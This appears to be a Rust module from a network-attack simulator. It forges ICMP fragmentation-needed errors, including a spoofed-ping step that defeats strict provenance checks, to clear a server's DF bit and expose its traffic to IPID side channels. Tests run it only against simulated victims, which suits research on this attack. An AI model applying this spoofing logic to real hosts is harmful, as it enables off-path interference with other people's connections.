//! Forged ICMP fragmentation-needed errors that clear the victim's DF bit
//! toward a chosen destination, moving its TCP traffic onto the shared,
//! observable IPID counters.

use std::net::Ipv4Addr;

use crate::attacker::{AttackConfig, AttackerIo};
use crate::net::packet::{echo_reply_image, IcmpMessage, Packet};

/// Where the embedded packet image comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EmbeddedSource {
    /// Fabricate an echo-reply image out of thin air. Enough against hosts
    /// that only sanity-check the embedded source address.
    SyntheticEchoReply,
    /// First ping the server *as the destination* so it genuinely sends (and
    /// records) a matching echo reply, then quote that reply. Defeats
    /// strict provenance validation.
    ElicitedEchoReply,
}

/// MTU quoted in the forged error; below any sane minimum PMTU.
pub const FORGED_MTU: u16 = 68;

/// Identifier/sequence used for elicited replies so the quoted image is
/// predictable without seeing the reply (which goes to the spoofed client).
const ELICIT_ID: u16 = 0x7a7a;
const ELICIT_SEQ: u16 = 1;

/// Build the forged error packet naming `target_dst` as the destination of
/// the embedded (fictitious) server packet.
#[must_use]
pub fn forge_frag_needed(attacker_src: Ipv4Addr, server: Ipv4Addr, target_dst: Ipv4Addr) -> Packet {
    let image = echo_reply_image(server, target_dst, 0, ELICIT_ID, ELICIT_SEQ);
    Packet::icmp(attacker_src, server, 0, false, IcmpMessage::frag_needed(FORGED_MTU, image))
}

/// Spoofed echo request that makes the server send (and log) an echo reply
/// to `target_dst` with the id/seqno the forged error will quote.
#[must_use]
pub fn elicitation_probe(server: Ipv4Addr, target_dst: Ipv4Addr) -> Packet {
    Packet::icmp(
        target_dst,
        server,
        0,
        false,
        IcmpMessage::EchoRequest { id: ELICIT_ID, seqno: ELICIT_SEQ },
    )
}

/// Fire the downgrade at `target_dst` (usually the client). Sends are
/// repeated for loss robustness; the operation is idempotent on the victim.
/// Success is not directly observable here — later phases reveal it.
pub fn perform_downgrade(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    target_dst: Ipv4Addr,
    source: EmbeddedSource,
) {
    let attacker_src = cfg.addr_pool_base;
    if source == EmbeddedSource::ElicitedEchoReply {
        for _ in 0..2 {
            io.send(elicitation_probe(cfg.server, target_dst));
            io.advance(2);
        }
        // let the reply land (and be logged) before quoting it
        io.advance(io.rtt() + 10);
    }
    for _ in 0..2 {
        io.send(forge_frag_needed(attacker_src, cfg.server, target_dst));
        io.advance(2);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::net::rng::{stream_rng, StreamId};
    use crate::net::sim::{AddrSet, Simulation};
    use crate::victim::endpoint::EndpointConfig;
    use crate::victim::host::VictimHost;
    use crate::victim::ipid::PolicyVariant;
    use crate::victim::pmtud::PmtudConfig;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    const SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const CLIENT: Ipv4Addr = Ipv4Addr::new(172, 16, 0, 9);
    const ATK: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 0);

    fn build(strict: bool) -> (Simulation, crate::net::sim::HostId, crate::net::sim::HostId) {
        let mut sim = Simulation::new(stream_rng(2, StreamId::LinkLoss), false);
        let mut cfg = EndpointConfig::default();
        cfg.listening_ports.insert(22);
        let pmtud = PmtudConfig { validate_embedded_provenance: strict, ..PmtudConfig::default() };
        let victim = VictimHost::new(
            SERVER,
            PolicyVariant::MixedDfBased,
            cfg,
            pmtud,
            ChaCha8Rng::seed_from_u64(21),
        );
        let vid = sim.add_reactive_host("server", AddrSet::single(SERVER), Box::new(victim));
        let mut pool = AddrSet::single(ATK);
        pool.add_block(ATK, 16);
        let aid = sim.add_mailbox_host("attacker", pool);
        (sim, vid, aid)
    }

    fn attack_cfg() -> AttackConfig {
        AttackConfig::new(SERVER, 22, CLIENT, ATK, 16)
    }

    #[test]
    fn synthetic_image_downgrades_a_lax_victim() {
        let (mut sim, vid, aid) = build(false);
        {
            let mut io = AttackerIo::new(&mut sim, aid);
            perform_downgrade(&mut io, &attack_cfg(), CLIENT, EmbeddedSource::SyntheticEchoReply);
        }
        sim.run_until(200);
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        assert!(!v.routes().df_for(CLIENT));
    }

    #[test]
    fn synthetic_image_bounces_off_a_strict_victim() {
        let (mut sim, vid, aid) = build(true);
        {
            let mut io = AttackerIo::new(&mut sim, aid);
            perform_downgrade(&mut io, &attack_cfg(), CLIENT, EmbeddedSource::SyntheticEchoReply);
        }
        sim.run_until(200);
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        assert!(v.routes().df_for(CLIENT), "strict provenance must reject fabricated images");
    }

    #[test]
    fn elicited_image_downgrades_even_a_strict_victim() {
        let (mut sim, vid, aid) = build(true);
        {
            let mut io = AttackerIo::new(&mut sim, aid);
            perform_downgrade(&mut io, &attack_cfg(), CLIENT, EmbeddedSource::ElicitedEchoReply);
        }
        sim.run_until(400);
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        assert!(!v.routes().df_for(CLIENT));
    }
}
